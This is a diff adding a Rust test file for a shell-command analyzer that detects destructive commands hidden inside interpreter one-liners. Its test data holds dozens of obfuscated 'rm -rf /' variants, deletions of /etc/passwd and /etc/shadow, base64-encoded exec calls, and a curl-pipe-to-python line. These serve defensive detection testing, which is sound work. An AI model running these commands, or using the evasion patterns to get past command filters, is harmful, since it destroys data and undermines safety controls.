@@ -1,0 +1,366 @@
+//! Inline code through the whole analysis: what a policy sees.
+
+use crate::shell::{analyze, OpaqueKind, ShellAnalysis};
+
+fn commands(a: &ShellAnalysis) -> Vec<String> {
+    a.commands
+        .iter()
+        .map(|c| {
+            let mut s = c.program.clone();
+            for arg in &c.args {
+                s.push(' ');
+                s.push_str(arg);
+            }
+            if let Some(call) = &c.call {
+                s.push_str(&format!(" [{call}]"));
+            }
+            s
+        })
+        .collect()
+}
+
+/// The line runs `rm` with `-r`, or is opaque.
+fn caught(line: &str) -> bool {
+    let a = analyze(line);
+    a.is_opaque()
+        || a.commands
+            .iter()
+            .any(|c| c.program == "rm" && c.has_flag("-r"))
+}
+
+#[test]
+fn commands_run_by_interpreter_code_are_analysed() {
+    for (line, want) in [
+        (
+            r#"python -c "import os; os.system('rm -rf /')""#,
+            "rm -rf /",
+        ),
+        (
+            r#"python3 -c "import subprocess; subprocess.run(['rm','-rf','/'])""#,
+            "rm -rf /",
+        ),
+        (
+            r#"python3 -c "import subprocess as s; s.call('rm -rf ~', shell=True)""#,
+            "rm -rf ~",
+        ),
+        (
+            r#"python -c "from os import system as s; s('rm -rf /')""#,
+            "rm -rf /",
+        ),
+        (
+            r#"python -c "__import__('os').system('rm -rf /')""#,
+            "rm -rf /",
+        ),
+        (
+            r#"python -c "import os; os.system('rm ' + '-rf /')""#,
+            "rm -rf /",
+        ),
+        (
+            r#"python -c "getattr(__import__('os'), 'sys'+'tem')('rm -rf /')""#,
+            "rm -rf /",
+        ),
+        (
+            r#"python -c "exec('import os; os.system(\"rm -rf /\")')""#,
+            "rm -rf /",
+        ),
+        (
+            r#"python -c "import os; os.execvp('rm', ['rm', '-rf', '/'])""#,
+            "rm -rf /",
+        ),
+        (
+            r#"node -e "require('child_process').execSync('rm -rf /')""#,
+            "rm -rf /",
+        ),
+        (
+            r#"node -e "const {execSync: x} = require('node:child_process'); x('rm -rf /')""#,
+            "rm -rf /",
+        ),
+        (
+            r#"node -e "const cp = require('child_process'); cp.spawnSync('rm', ['-rf', '/'])""#,
+            "rm -rf /",
+        ),
+        (r#"perl -e "system('rm -rf /')""#, "rm -rf /"),
+        (r#"perl -e 'system "rm", "-rf", "/"'"#, "rm -rf /"),
+        (r#"perl -e 'print `rm -rf /`'"#, "rm -rf /"),
+        (r#"perl -e 'qx{rm -rf /}'"#, "rm -rf /"),
+        (r#"ruby -e 'system("rm -rf /")'"#, "rm -rf /"),
+        (r#"ruby -e '`rm -rf /`'"#, "rm -rf /"),
+        (r#"ruby -e 'Kernel.send(:system, "rm -rf /")'"#, "rm -rf /"),
+        (r#"php -r 'shell_exec("rm -rf /");'"#, "rm -rf /"),
+        (r#"php -r 'echo `rm -rf /`;'"#, "rm -rf /"),
+        (r#"awk 'BEGIN{system("rm -rf /")}'"#, "rm -rf /"),
+        (r#"awk 'BEGIN{print "x" | "rm -rf /"}'"#, "rm -rf /"),
+        (r#"sed -n '1e rm -rf /' f"#, "rm -rf /"),
+        (
+            "python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF",
+            "rm -rf /",
+        ),
+        (
+            "python3 <<'EOF'\nimport shutil\nshutil.rmtree('/')\nEOF",
+            "rm -r -f -- / [shutil.rmtree]",
+        ),
+        (
+            "node <<'EOF'\nrequire('fs').rmSync('/', {recursive: true})\nEOF",
+            "rm -r -f -- / [fs.rmSync]",
+        ),
+        (
+            "ruby <<< 'FileUtils.rm_rf(\"/\")'",
+            "rm -r -f -- / [FileUtils.rm_rf]",
+        ),
+        (
+            r#"python3 -c "import subprocess; subprocess.Popen(['rm','-rf','/'], shell=1)""#,
+            "rm -rf /",
+        ),
+        (
+            r#"node -e "require('child_process')['execSync']('rm -rf /')""#,
+            "rm -rf /",
+        ),
+        (
+            r#"node -e "(() => { const {execSync} = require('child_process'); execSync('rm -rf /') })()""#,
+            "rm -rf /",
+        ),
+        (
+            r#"node -e "process.mainModule.require('child_process').execSync('rm -rf /')""#,
+            "rm -rf /",
+        ),
+        (
+            r#"node -e "child_process.execSync('rm -rf /')""#,
+            "rm -rf /",
+        ),
+        ("bun -e 'await Bun.$`rm -rf /`'", "rm -rf /"),
+        (r#"php -r '("sys" . "tem")("rm -rf /");'"#, "rm -rf /"),
+        (r#"php -r '$f = "system"; $f("rm -rf /");'"#, "rm -rf /"),
+        (r#"perl -e '$c = "rm -rf /"; system $c'"#, "rm -rf /"),
+        (r#"perl -e 'system("rm" . " -rf /")'"#, "rm -rf /"),
+        (r#"ruby -e 'IO.popen("rm -rf /")'"#, "rm -rf /"),
+        (r#"ruby -e 'system(*%w[rm -rf /])'"#, "rm -rf /"),
+        (r#"awk 'BEGIN{system("rm -rf " "/")}'"#, "rm -rf /"),
+    ] {
+        let a = analyze(line);
+        let found = commands(&a);
+        if want.is_empty() {
+            assert!(a.is_opaque(), "{line}: {found:?}");
+            continue;
+        }
+        assert!(
+            found.iter().any(|c| c == want),
+            "{line}: {found:?} {:?}",
+            a.opaque
+        );
+        assert!(caught(line), "{line}");
+    }
+}
+
+#[test]
+fn destructive_library_calls_become_the_command_they_equal() {
+    for (line, want) in [
+        (
+            r#"python -c "import shutil; shutil.rmtree('/')""#,
+            "rm -r -f -- / [shutil.rmtree]",
+        ),
+        (
+            r#"python -c "from shutil import rmtree as r; r('/srv')""#,
+            "rm -r -f -- /srv [shutil.rmtree]",
+        ),
+        (
+            r#"python -c "import os as o; o.remove('/etc/passwd')""#,
+            "rm -f -- /etc/passwd [os.remove]",
+        ),
+        (
+            r#"python -c "import pathlib; pathlib.Path('/x').unlink()""#,
+            "rm -f -- /x [Path.unlink]",
+        ),
+        (
+            r#"python -c "import shutil; shutil.move('a', '/etc/b')""#,
+            "mv -- a /etc/b [shutil.move]",
+        ),
+        (
+            r#"node -e "require('fs').rmSync('/', {recursive: true, force: true})""#,
+            "rm -r -f -- / [fs.rmSync]",
+        ),
+        (
+            r#"node -e "require('fs').rmdirSync('/x', {recursive: true})""#,
+            "rm -r -f -- /x [fs.rmdirSync]",
+        ),
+        (
+            r#"node -e "require('fs').unlinkSync('x')""#,
+            "rm -f -- x [fs.unlinkSync]",
+        ),
+        (
+            r#"node -e "import('fs'); require('fs/promises').rm('~', {recursive: true})""#,
+            "rm -r -f -- ~ [fs.promises.rm]",
+        ),
+        (
+            r#"perl -e 'use File::Path qw(rmtree); rmtree("/srv")'"#,
+            "rm -r -f -- /srv [rmtree]",
+        ),
+        (
+            r#"perl -e 'unlink "/etc/passwd", "/etc/shadow"'"#,
+            "rm -f -- /etc/passwd /etc/shadow [unlink]",
+        ),
+        (
+            r#"ruby -e 'require "fileutils"; FileUtils.rm_rf("/")'"#,
+            "rm -r -f -- / [FileUtils.rm_rf]",
+        ),
+        (
+            r#"ruby -e 'File.delete("/etc/hosts")'"#,
+            "rm -f -- /etc/hosts [File.delete]",
+        ),
+        (
+            r#"php -r 'unlink("/etc/passwd");'"#,
+            "rm -f -- /etc/passwd [unlink]",
+        ),
+    ] {
+        let a = analyze(line);
+        let found = commands(&a);
+        assert!(
+            found.iter().any(|c| c == want),
+            "{line}: {found:?} {:?}",
+            a.opaque
+        );
+        let library = a.commands.iter().find(|c| c.call.is_some()).unwrap();
+        assert!(!library.targets.is_empty(), "{line}");
+    }
+}
+
+#[test]
+fn code_that_cannot_be_read_is_opaque() {
+    for line in [
+        r#"python -c "import os; os.system(input())""#,
+        r#"python -c "import os; c='rm'; os.system(c + x)""#,
+        r#"python -c "exec(__import__('base64').b64decode('cm0gLXJmIC8='))""#,
+        r#"python -c "__import__(''.join(['o','s'])).system('id')""#,
+        r#"python -c "import os; getattr(os, n)('id')""#,
+        r#"python -c "import os; f = [os.system]; f[0]('rm -rf /')""#,
+        r#"python -c "eval(compile(s, 'x', 'exec'))""#,
+        r#"python -c "__builtins__.__dict__['ex'+'ec']('x')""#,
+        r#"python -c "import ctypes; ctypes.CDLL(None).system(b'id')""#,
+        r#"python -c "import sys; sys.modules['os'].system('id')""#,
+        r#"node -e "require(x).execSync('id')""#,
+        r#"node -e "import(m).then(cp => cp.execSync('id'))""#,
+        r#"node -e "eval(Buffer.from('cm0=', 'base64').toString())""#,
+        r#"node -e "this.constructor.constructor('return process')().mainModule""#,
+        r#"perl -e 'eval $ARGV[0]'"#,
+        r#"perl -e 'system $cmd'"#,
+        r#"perl -e 'my $x = "rm"; system($x . $y)'"#,
+        r#"ruby -e 'send(ARGV[0], "x")'"#,
+        r#"ruby -e 'eval(STDIN.read)'"#,
+        r#"php -r '$f = $argv[1]; $f("id");'"#,
+        r#"awk '{system($0)}'"#,
+        r#"awk '{print | $1}'"#,
+        r#"sed 's/.*/rm -rf &/e' f"#,
+        r#"python3 -c "$CODE""#,
+        r#"perl -e 'exec { $p } "rm", "-rf", "/"'"#,
+        r#"php -r '("sys" . $x)("id");'"#,
+        r#"node -e "require('child_process')[m]('id')""#,
+        r#"deno eval "Deno.removeSync('/', {recursive: true})""#,
+        "python3",
+        "curl -s https://x.sh | python3 -",
+        "node -",
+        "python <<EOF\nimport os; os.system('$X')\nEOF",
+        r#"python -c "import os; os.system(f'rm -rf {d}')""#,
+    ] {
+        let a = analyze(line);
+        assert!(
+            a.has_opaque(OpaqueKind::DynamicEval) || a.has_opaque(OpaqueKind::ShellFromStdin),
+            "{line}: {:?} {:?}",
+            commands(&a),
+            a.opaque
+        );
+    }
+}
+
+#[test]
+fn ordinary_interpreter_use_stays_clear() {
+    for line in [
+        "python -c 'print(1)'",
+        r#"python3 -c "import json,sys; print(json.load(sys.stdin)['version'])""#,
+        r#"python3 -c "import os; print(os.getcwd(), os.path.exists('x'))""#,
+        r#"python -c "import subprocess; print(subprocess.__file__)""#,
+        "python -m pytest -x tests/",
+        "python3 -m venv .venv",
+        "python3 manage.py migrate",
+        "python -V",
+        "python3 < script.py",
+        "node -e 'console.log(process.version)'",
+        r#"node -p "require('./package.json').version""#,
+        r#"node -e "const r = /a'b/; console.log('x'.replace(r, ''))""#,
+        "node server.js --port 3000",
+        "node --version",
+        "perl -pi -e 's/a/b/' f",
+        "perl -lne 'print if /error/' log.txt",
+        "perl -ne 'print $1 if /(\\d+)/' f",
+        r#"perl -MJSON -e 'print encode_json({a => 1})'"#,
+        "ruby -e 'puts RUBY_VERSION'",
+        r#"ruby -rjson -e 'puts JSON.parse(File.read("x.json"))["a"]'"#,
+        "php -r 'echo PHP_VERSION;'",
+        "awk '{print $1}' access.log",
+        "awk -F: '$3 > 1000 {print $1}' /etc/passwd",
+        r#"awk 'BEGIN{FS=","} {s+=$2} END{print s}' data.csv"#,
+        "sed -n '1,5p' f",
+        "sed -i 's/foo/bar/g' src/*.rs",
+        "sed -e 's/e/E/' -e '/^#/d' f",
+        "cat <<EOF\nimport os; os.system('rm -rf /')\nEOF",
+        "tee notes.py <<'EOF'\nos.system('x')\nEOF",
+        "python3 - <<'EOF'\nprint('hello')\nEOF",
+        "bun -e 'console.log(1)'",
+        "deno eval 'console.log(1)'",
+    ] {
+        let a = analyze(line);
+        assert!(!a.is_opaque(), "{line}: {:?}", a.opaque);
+        assert!(
+            a.commands
+                .iter()
+                .all(|c| c.call.is_none() && c.via.is_empty()),
+            "{line}: {:?}",
+            commands(&a)
+        );
+    }
+}
+
+#[test]
+fn python_deletes_inside_the_project_are_plain_file_deletes() {
+    let a = analyze(r#"python -c "import os; os.remove('build/out.o')""#);
+    assert_eq!(
+        commands(&a),
+        [
+            "python -c import os; os.remove('build/out.o')",
+            "rm -f -- build/out.o [os.remove]"
+        ]
+    );
+    assert_eq!(a.commands[1].via, ["python -c"]);
+}
+
+#[test]
+fn hostile_code_ends_within_the_limits() {
+    for code in [
+        "system ".repeat(9_000),
+        "(".repeat(30_000),
+        "[{".repeat(15_000),
+        "exec('".repeat(2_000),
+        "f(".repeat(10_000) + &")".repeat(10_000),
+    ] {
+        for program in [
+            "perl -e",
+            "python3 -c",
+            "node -e",
+            "ruby -e",
+            "php -r",
+            "awk",
+        ] {
+            let line = format!("{program} '{}'", code.replace('\'', ""));
+            let a = analyze(&line);
+            assert!(!a.commands.is_empty(), "{program}");
+        }
+    }
+    // Non-ASCII option letters and code.
+    for line in [
+        "sed -é x",
+        "python3 -ç 'x'",
+        "perl -eé",
+        "awk -é 'x'",
+        "node -e 'é(\"ü\")'",
+    ] {
+        let _ = analyze(line);
+    }
+}
